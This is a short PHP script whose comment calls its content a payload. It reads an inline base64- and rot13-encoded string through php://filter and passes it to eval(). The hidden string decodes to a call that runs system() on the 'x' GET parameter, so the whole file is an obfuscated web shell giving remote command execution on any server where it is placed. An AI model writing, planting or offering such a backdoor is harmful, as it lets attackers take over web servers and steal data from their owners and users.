<?php
// the payload is inline data read through two decoding filters
$src = 'php://filter/read=convert.base64-decode|string.rot13/resource=data:text/plain,QGZsZmdyeigkX1RSR1sieCJdKTs=';
eval(file_get_contents($src));
